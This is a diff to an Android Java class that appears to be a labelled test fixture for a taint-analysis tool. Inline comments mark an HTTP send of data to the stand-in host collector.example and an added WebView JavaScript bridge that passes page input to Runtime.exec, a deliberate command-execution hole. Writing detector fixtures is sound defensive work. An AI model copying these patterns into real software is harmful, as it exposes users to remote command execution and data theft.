@@ -267,4 +267,12 @@ class Upload extends AsyncTask<String, Void, Void> {
         new URL("https://collector.example/?t=" + parts[0]).openStream(); //~ sink(egress.http) f28, finding(traced) f28
         return null;
     }
+
+    @android.webkit.JavascriptInterface //~ source(NETWORK) fpage
+    public void run(String command) {
+        Runtime.getRuntime().exec(command); //~ sink(exec.command) fpage, finding(traced) fpage
+    }
+
+    @android.webkit.JavascriptInterface //~ ok
+    public int count(String text) { return text.length(); }
 }
